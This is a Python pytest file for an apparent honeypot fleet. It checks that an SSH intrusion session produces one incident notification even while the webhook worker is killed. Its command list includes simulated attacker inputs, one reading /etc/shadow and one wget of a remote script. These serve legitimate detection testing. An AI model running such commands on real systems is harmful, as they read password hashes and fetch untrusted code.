# SPDX-License-Identifier: MIT
"""Incidents of a real fleet: an SSH session reaches people as one notification, also while webhook is killed."""

from __future__ import annotations

import asyncio
import contextlib
import os
import signal
import time
from pathlib import Path
from typing import Any

import pytest
from tests.fleet.arena import PASSWORD, Arena

from decnet.drill.asyncssh_client import log_in
from decnet.drill.private import SSH_PORT
from decnet.drill.receiver import Arrival
from decnet_models.database.engine import open_engine, reading, writing
from decnet_models.incidents import queries
from decnet_models.incidents.tables import incident_notice
from decnet_models.incidents.values import ACKNOWLEDGED
from decnet_models.notices import queries as outbox
from decnet_models.webhooks.queries import add_webhook, webhooks
from decnet_workers.webhook.incidents.content import Attributed
from decnet_workers.webhook.incidents.selection import INCIDENTS, Selection, written

pytestmark = [pytest.mark.fault, pytest.mark.timeout(240)]

SOURCE = "127.66.9.1"
COMMANDS = ("id", "uname -a", "ps aux", "cat /etc/shadow", "crontab -l", "wget http://203.0.113.9/x.sh")


def of_incidents(arena: Arena) -> list[Arrival]:
    return [one for one in arena.receiver.arrivals if one.kind.startswith("incident.")]


async def until(condition: Any, seconds: float = 120) -> None:
    deadline = time.monotonic() + seconds
    while not condition():
        assert time.monotonic() < deadline, "did not happen in time"
        await asyncio.sleep(0.1)


async def session(arena: Arena, *, kill: bool) -> None:
    """Log in and type the commands, while webhook is killed twice, if asked."""
    async with await log_in(f"127.77.{arena.block}.10", SSH_PORT, SOURCE, "root", password=PASSWORD) as connection:
        for number, command in enumerate(COMMANDS):
            await connection.run(command, check=False)
            pid = arena.pid_of("webhook") if kill and number in (1, 4) else None
            if pid is not None:
                with contextlib.suppress(ProcessLookupError):
                    os.kill(pid, signal.SIGKILL)


@pytest.mark.parametrize("kill", [False, True], ids=["in peace", "while webhook is killed"])
async def test_a_session_of_six_commands_is_one_notification_and_every_record_is_kept(
    tmp_path: Path, kill: bool
) -> None:
    arena = Arena(tmp_path, besides={"DECNET_WEBHOOK_INCIDENT_WAIT_SECONDS": "30"})
    async with arena.running():
        engine = open_engine(arena.database)
        with writing(engine) as connection:
            people = written(Selection(sends=INCIDENTS))
            add_webhook(
                connection,
                webhooks(connection)[0].webhook.url,
                allow_private=True,
                since_seq=0,
                now_ns=1,
                filter=people,
            )
        await session(arena, kill=kill)
        await until(lambda: of_incidents(arena), 120)
        (opened,) = of_incidents(arena)
        assert (opened.kind, opened.data["attacker"], opened.data["severity"]) == ("incident.opened", SOURCE, "high")
        assert "cat /etc/shadow" in opened.data["line"]
        with writing(engine) as connection:
            assert queries.act(connection, opened.data["incident"], ACKNOWLEDGED, "anna", now_ns=time.time_ns()) is None
        await until(lambda: len(of_incidents(arena)) == 2)
        assert (of_incidents(arena)[1].kind, of_incidents(arena)[1].data["who"]) == ("incident.acknowledged", "anna")
        with reading(engine) as connection:
            notices = [one for one in outbox.after(connection, 0, 1000) if isinstance(one.notice, Attributed)]
            linked = [row[0] for row in connection.execute(incident_notice.select().order_by(incident_notice.c.notice))]
            (listed,) = queries.incidents(connection)
        assert linked == [one.seq for one in notices]
        assert listed.incident.notices == len(linked)
        records = [one for one in arena.receiver.arrivals if not one.kind.startswith("incident.")]
        assert len(records) >= len(linked)
        engine.dispose()
